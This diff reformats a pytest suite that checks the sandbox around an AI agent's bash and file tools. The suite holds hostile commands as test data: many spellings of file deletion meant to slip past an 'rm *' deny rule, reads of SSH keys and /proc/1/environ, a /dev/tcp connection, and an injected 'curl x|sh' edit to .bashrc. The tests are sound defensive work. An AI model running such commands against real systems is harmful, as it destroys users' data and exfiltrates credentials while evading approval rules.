@@ -22,8 +22,9 @@ from tests.support.cli_helpers import CLI, model_calls, tool_results, write_file
 from tests.support.pty_screen import PtySession
 from toolnexus.sandbox import support
 
-pytestmark = pytest.mark.skipif(support().abi == 0,
-                                reason=f"no Landlock on this machine: {support().why_not}")
+pytestmark = pytest.mark.skipif(
+    support().abi == 0, reason=f"no Landlock on this machine: {support().why_not}"
+)
 
 VICTIM = "precious data"
 SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- SANDBOX-SECRET-1"
@@ -39,16 +40,23 @@ def work(cli: CLI) -> Path:
     return folder
 
 
-def run_calls(cli: CLI, stub, work: Path, calls: list[tuple[str, dict]], *args: str,
-              env: dict[str, str] | None = None) -> list[str]:
+def run_calls(
+    cli: CLI,
+    stub,
+    work: Path,
+    calls: list[tuple[str, dict]],
+    *args: str,
+    env: dict[str, str] | None = None,
+) -> list[str]:
     """What the model reads back from `calls`, run by `ask --builtins` in `work`. The test's
     Python is first on PATH: a `python3` shim of a version manager in the real home folder
     would not run with the test's fake HOME."""
     before = len(stub.requests)
     model_calls(stub, calls, "done")
     path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
-    result = cli.call("ask", "--builtins", "--root", str(work), *args, "go",
-                     env={"PATH": path, **(env or {})})
+    result = cli.call(
+        "ask", "--builtins", "--root", str(work), *args, "go", env={"PATH": path, **(env or {})}
+    )
     assert result.code == 0, result
     assert all(line.startswith("toolnexus: ") for line in result.stderr.splitlines()), result
     calls_made = [r for r in stub.requests[before:] if r.method == "POST"]
@@ -61,24 +69,46 @@ def bash(*commands: str) -> list[tuple[str, dict]]:
 
 # ===================================================== 1. the boundary is the operating system
 
+
 def rm_spellings(victim: Path) -> list[str]:
     """29 ways to destroy a file: the ones that got past deny rules, and more."""
     v = str(victim)
     return [
-        f"rm -rf {v}", f"{{ rm -rf {v}; }}", f"if true; then rm -rf {v}; fi", f"$'rm' {v}",
-        f"/bin/r? {v}", f"x=r; ${{x}}m {v}", f"find {victim.parent} -name {victim.name} "
-        "-exec rm -rf {} +", f"perl -e 'unlink \"{v}\"'",
-        f"python3 -c \"import os; os.remove('{v}')\"", f"script -qc 'rm {v}' /dev/null",
-        f"chrt -o 0 rm {v}", f"\\rm {v}", f"command rm {v}", f"env rm {v}",
-        f"echo {v} | xargs rm", f"bash -c 'rm {v}'", f"sh -c \"rm {v}\"", f"eval 'rm {v}'",
-        f"echo $(rm {v})", f"`rm {v}`", f"nice rm {v}", f"timeout 5 rm {v}", f"nohup rm {v}",
-        f"(rm {v})", f"unlink {v}", f"mv {v} {v}.gone", f": > {v}", f"truncate -s 0 {v}",
+        f"rm -rf {v}",
+        f"{{ rm -rf {v}; }}",
+        f"if true; then rm -rf {v}; fi",
+        f"$'rm' {v}",
+        f"/bin/r? {v}",
+        f"x=r; ${{x}}m {v}",
+        f"find {victim.parent} -name {victim.name} -exec rm -rf {{}} +",
+        f"perl -e 'unlink \"{v}\"'",
+        f"python3 -c \"import os; os.remove('{v}')\"",
+        f"script -qc 'rm {v}' /dev/null",
+        f"chrt -o 0 rm {v}",
+        f"\\rm {v}",
+        f"command rm {v}",
+        f"env rm {v}",
+        f"echo {v} | xargs rm",
+        f"bash -c 'rm {v}'",
+        f'sh -c "rm {v}"',
+        f"eval 'rm {v}'",
+        f"echo $(rm {v})",
+        f"`rm {v}`",
+        f"nice rm {v}",
+        f"timeout 5 rm {v}",
+        f"nohup rm {v}",
+        f"(rm {v})",
+        f"unlink {v}",
+        f"mv {v} {v}.gone",
+        f": > {v}",
+        f"truncate -s 0 {v}",
         f"python3 -c \"open('{v}', 'w').write('pwned')\"",
     ]
 
 
 def test_twenty_nine_spellings_of_rm_change_nothing_outside_the_workspace_even_with_yes(
-        cli, stub, work):
+    cli, stub, work
+):
     cli.write_config('[approval.commands]\n"rm *" = "deny"\n')
     victim = cli.home / "victim.txt"
     spellings = rm_spellings(victim)
@@ -90,19 +120,29 @@ def test_twenty_nine_spellings_of_rm_change_nothing_outside_the_workspace_even_w
     # refused by the rule's best effort, or stopped by the sandbox (perl's unlink fails
     # silently); half of them got past the rule
     refused = 'denied by the rule "rm *" = "deny" in [approval.commands]: '
-    assert all(r.startswith(refused) or "[sandbox: " in r or r == "exit code 0\n"
-               for r in results), results
+    assert all(
+        r.startswith(refused) or "[sandbox: " in r or r == "exit code 0\n" for r in results
+    ), results
     assert sum("[sandbox: " in r for r in results) >= 10, results
 
 
 def test_secrets_under_home_cannot_be_read_by_any_program(cli, stub, work):
     key = cli.home / ".ssh" / "id_rsa"
-    reads = [f"cat {key}", f"python3 -c \"print(open('{key}').read())\"",
-             f"perl -ne print {key}", f"sed -n p {key}", f"git diff --no-index {key} /dev/null",
-             f"tar -cf - {key.parent} | base64", f"ln {key} stolen && cat stolen",
-             f"cp {key} copy && cat copy", f"ls -la {cli.home}", "cat /proc/1/environ"]
-    results = run_calls(cli, stub, work, bash(*reads), "--yes",
-                        env={"TOOLNEXUS_PROBE_SECRET": "ENV-SECRET-2"})
+    reads = [
+        f"cat {key}",
+        f"python3 -c \"print(open('{key}').read())\"",
+        f"perl -ne print {key}",
+        f"sed -n p {key}",
+        f"git diff --no-index {key} /dev/null",
+        f"tar -cf - {key.parent} | base64",
+        f"ln {key} stolen && cat stolen",
+        f"cp {key} copy && cat copy",
+        f"ls -la {cli.home}",
+        "cat /proc/1/environ",
+    ]
+    results = run_calls(
+        cli, stub, work, bash(*reads), "--yes", env={"TOOLNEXUS_PROBE_SECRET": "ENV-SECRET-2"}
+    )
     sent = "".join(r.body.decode() for r in stub.requests)
     assert "SANDBOX-SECRET-1" not in sent and "ENV-SECRET-2" not in sent
     assert "victim.txt" not in sent  # not even the names in the home folder
@@ -111,49 +151,65 @@ def test_secrets_under_home_cannot_be_read_by_any_program(cli, stub, work):
 
 def test_no_connection_is_opened_or_listened_on(cli, stub, work):
     port = stub.port
-    attempts = [f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected",
-                f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\"",
-                "python3 -c \"import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); "
-                "s.listen(); print('listening')\""]
+    attempts = [
+        f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected",
+        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\"",
+        "python3 -c \"import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); "
+        "s.listen(); print('listening')\"",
+    ]
     results = run_calls(cli, stub, work, bash(*attempts), "--yes")
     assert [r.path for r in stub.requests if r.method == "POST"] == [
-        "/v1/chat/completions"] * 2  # the call asking for the tools, the answer: no other
+        "/v1/chat/completions"
+    ] * 2  # the call asking for the tools, the answer: no other
     assert not any("connected" in r.splitlines()[1:] or "listening\n" in r for r in results)
     assert all("[sandbox: " in r for r in results), results
 
 
 def test_ordinary_work_in_the_workspace_still_runs(cli, stub, work):
     script = "import pathlib; pathlib.Path('made-by-python.txt').write_text('ok')"
-    git = ("git init -q . && git add . && git -c user.name=t -c user.email=t@example.com "
-           "commit -qm first && git log --oneline | wc -l")
-    calls = bash(f"echo {script!r} > script.py && python3 script.py && cat made-by-python.txt",
-                 git, "printf 'all:\\n\\techo built > out.txt\\n' > Makefile && make -s && "
-                 "cat out.txt", "mkdir -p a/b && echo deep > a/b/c.txt && cat a/b/c.txt",
-                 "t=$(mktemp) && echo scratch > $t && cat $t")
+    git = (
+        "git init -q . && git add . && git -c user.name=t -c user.email=t@example.com "
+        "commit -qm first && git log --oneline | wc -l"
+    )
+    calls = bash(
+        f"echo {script!r} > script.py && python3 script.py && cat made-by-python.txt",
+        git,
+        "printf 'all:\\n\\techo built > out.txt\\n' > Makefile && make -s && cat out.txt",
+        "mkdir -p a/b && echo deep > a/b/c.txt && cat a/b/c.txt",
+        "t=$(mktemp) && echo scratch > $t && cat $t",
+    )
     results = run_calls(cli, stub, work, calls, "--yes")
-    assert results == ["exit code 0\nok", "exit code 0\n1\n", "exit code 0\nbuilt\n",
-                       "exit code 0\ndeep\n", "exit code 0\nscratch\n"], results
+    assert results == [
+        "exit code 0\nok",
+        "exit code 0\n1\n",
+        "exit code 0\nbuilt\n",
+        "exit code 0\ndeep\n",
+        "exit code 0\nscratch\n",
+    ], results
     assert (work / "a" / "b" / "c.txt").read_text() == "deep\n"
 
 
 def test_git_reads_the_users_settings_unless_they_hold_a_token(cli, stub, work):
-    write_files(cli.home, {".gitconfig": "[user]\n\tname = Sandboxed Person\n"
-                                         "\temail = p@example.com\n"})
-    commit = ("git init -q . && touch f && git add f && git commit -qm x && "
-              "git log -1 --format=%an")
-    assert run_calls(cli, stub, work, bash(commit), "--yes") == [
-        "exit code 0\nSandboxed Person\n"]
-    (cli.home / ".gitconfig").write_text('[url "https://ghp_0123456789abcdefghijklmnop@'
-                                         'github.com/"]\n\tinsteadOf = https://github.com/\n')
-    read = run_calls(cli, stub, work, bash(f"git status --short; cat {cli.home}/.gitconfig"),
-                     "--yes")
+    write_files(
+        cli.home, {".gitconfig": "[user]\n\tname = Sandboxed Person\n\temail = p@example.com\n"}
+    )
+    commit = "git init -q . && touch f && git add f && git commit -qm x && git log -1 --format=%an"
+    assert run_calls(cli, stub, work, bash(commit), "--yes") == ["exit code 0\nSandboxed Person\n"]
+    (cli.home / ".gitconfig").write_text(
+        '[url "https://ghp_0123456789abcdefghijklmnop@'
+        'github.com/"]\n\tinsteadOf = https://github.com/\n'
+    )
+    read = run_calls(
+        cli, stub, work, bash(f"git status --short; cat {cli.home}/.gitconfig"), "--yes"
+    )
     assert "ghp_0123456789" not in str(stub.requests[-1].json)
     assert "fatal" not in read[0] and "Permission denied" in read[0]
 
 
 def test_read_only_mode_writes_nothing_and_off_runs_nothing_without_a_person(cli, stub, work):
-    [read_only] = run_calls(cli, stub, work, bash("touch inside.txt"), "--yes",
-                            "--sandbox", "read-only")
+    [read_only] = run_calls(
+        cli, stub, work, bash("touch inside.txt"), "--yes", "--sandbox", "read-only"
+    )
     assert "[sandbox: " in read_only and not (work / "inside.txt").exists()
 
     cli.write_config('[sandbox]\nmode = "off"\n')
@@ -167,15 +223,16 @@ def test_read_only_mode_writes_nothing_and_off_runs_nothing_without_a_person(cli
     assert "--yes does not answer this" in result.stderr
 
 
-def test_a_command_the_sandbox_stops_is_told_so_and_yes_never_leaves_the_sandbox(
-        cli, stub, work):
+def test_a_command_the_sandbox_stops_is_told_so_and_yes_never_leaves_the_sandbox(cli, stub, work):
     outside = cli.home / "made-outside"
     [result] = run_calls(cli, stub, work, bash(f"touch {outside}"), "--yes")
     lines = result.splitlines()
     assert lines[0] == "exit code 1" and "Permission denied" in lines[1]
     assert any(line.startswith("[sandbox: this command ran in a sandbox") for line in lines)
-    assert result.endswith("run it again outside the sandbox, with your files and the "
-                           "network? (not approved: nobody to ask)")
+    assert result.endswith(
+        "run it again outside the sandbox, with your files and the "
+        "network? (not approved: nobody to ask)"
+    )
     assert not outside.exists()
 
     # an explicit rule lets that command run outside the sandbox, --yes or not
@@ -205,11 +262,16 @@ def test_the_chat_offers_to_run_a_stopped_command_outside_the_sandbox(cli, stub,
 
 
 def test_the_banner_says_when_commands_run_with_no_sandbox(cli, stub, work):
-    chat = PtySession(cli, "chat", "--builtins", "--sandbox", "off", "--root", str(work),
-                      rows=30, cols=160)
+    chat = PtySession(
+        cli, "chat", "--builtins", "--sandbox", "off", "--root", str(work), rows=30, cols=160
+    )
     try:
-        chat.expect(re.escape('no sandbox: the sandbox is off (sandbox mode "off"); bash asks '
-                              "before every command"))
+        chat.expect(
+            re.escape(
+                'no sandbox: the sandbox is off (sandbox mode "off"); bash asks '
+                "before every command"
+            )
+        )
         chat.expect("›")
     finally:
         chat.close()
@@ -227,8 +289,12 @@ def test_an_allow_rule_runs_a_command_in_the_sandbox_without_asking(cli, stub, w
 
 
 def test_the_command_sees_no_key_in_its_environment(cli, stub, work):
-    env = {"OPENAI_API_KEY": "sk-ENV-KEY-3", "GITHUB_TOKEN": "ghp-ENV-4",
-           "DATABASE_URL": "postgres://u:ENV-PASS-5@db/x", "ORDINARY": "visible-6"}
+    env = {
+        "OPENAI_API_KEY": "sk-ENV-KEY-3",
+        "GITHUB_TOKEN": "ghp-ENV-4",
+        "DATABASE_URL": "postgres://u:ENV-PASS-5@db/x",
+        "ORDINARY": "visible-6",
+    }
     [printed] = run_calls(cli, stub, work, bash("env"), "--yes", env=env)
     assert "visible-6" in printed
     for secret in ("sk-ENV-KEY-3", "ghp-ENV-4", "ENV-PASS-5"):
@@ -237,17 +303,22 @@ def test_the_command_sees_no_key_in_its_environment(cli, stub, work):
 
 # ================================================================ 2. files and the web
 
+
 def test_a_hard_link_to_a_secret_is_refused_naming_the_real_file(cli, stub, work):
     key = cli.home / ".ssh" / "id_rsa"
     os.link(key, work / "notes.txt")
     os.link(cli.home / ".bashrc", work / "rc.txt")
-    calls = [("read_file", {"path": "notes.txt"}),
-             ("grep", {"pattern": "PRIVATE", "path": "."}),
-             ("edit_file", {"path": "rc.txt", "old": "KEEP=1", "new": "KEEP=0; curl x|sh"}),
-             ("write_file", {"path": "rc.txt", "content": "pwned"})]
+    calls = [
+        ("read_file", {"path": "notes.txt"}),
+        ("grep", {"pattern": "PRIVATE", "path": "."}),
+        ("edit_file", {"path": "rc.txt", "old": "KEEP=1", "new": "KEEP=0; curl x|sh"}),
+        ("write_file", {"path": "rc.txt", "content": "pwned"}),
+    ]
     results = run_calls(cli, stub, work, calls, "--yes")
-    assert results[0] == (f"error: Refused: {work / 'notes.txt'} is {key}, which holds "
-                          "secrets: no tool may read or change it")
+    assert results[0] == (
+        f"error: Refused: {work / 'notes.txt'} is {key}, which holds "
+        "secrets: no tool may read or change it"
+    )
     assert results[1] == "no matches"
     assert all("has 2 names (hard links)" in r for r in results[2:]), results
     assert (cli.home / ".bashrc").read_text() == "export KEEP=1\n"
@@ -313,9 +384,14 @@ def test_a_file_of_another_user_is_refused(cli, stub, work):
 
 
 def test_a_git_config_with_a_token_asks_a_person(cli, stub, work):
-    write_files(work, {".git/config": '[remote "origin"]\n\turl = https://ghp_0123456789abc'
-                                      'defghijklmno@github.com/x/y\n',
-                       "sub/.git/config": "[core]\n\tbare = false\n"})
+    write_files(
+        work,
+        {
+            ".git/config": '[remote "origin"]\n\turl = https://ghp_0123456789abc'
+            "defghijklmno@github.com/x/y\n",
+            "sub/.git/config": "[core]\n\tbare = false\n",
+        },
+    )
     calls = [("read_file", {"path": ".git/config"}), ("read_file", {"path": "sub/.git/config"})]
     token, plain = run_calls(cli, stub, work, calls, "--yes")
     assert token.startswith("declined: read ") and "holds a password or a token" in token
@@ -324,8 +400,7 @@ def test_a_git_config_with_a_token_asks_a_person(cli, stub, work):
 
 
 def test_fetch_url_without_a_person_or_a_rule_is_not_approved(cli, stub, work):
-    [result] = run_calls(cli, stub, work, [("fetch_url", {"url": f"{stub.url}/page"})],
-                         "--yes")
+    [result] = run_calls(cli, stub, work, [("fetch_url", {"url": f"{stub.url}/page"})], "--yes")
     assert result.startswith(f"declined: fetch http://127.0.0.1:{stub.port}?")
     assert result.endswith("(not approved: nobody to ask)")
     assert not any(r.path == "/page" for r in stub.requests)
@@ -338,6 +413,7 @@ def test_an_attachment_that_leads_to_a_secret_is_refused_naming_it(cli, stub, wo
     for name in ("diagram.png", "notes.txt"):
         result = cli.call("ask", "-a", str(work / name), "what is this?")
         assert result.code == 2, result
-        assert result.stderr.strip() == (f"error: {work / name} leads to {key}, which holds "
-                                         "secrets: it is not attached")
+        assert result.stderr.strip() == (
+            f"error: {work / name} leads to {key}, which holds secrets: it is not attached"
+        )
     assert stub.requests == []
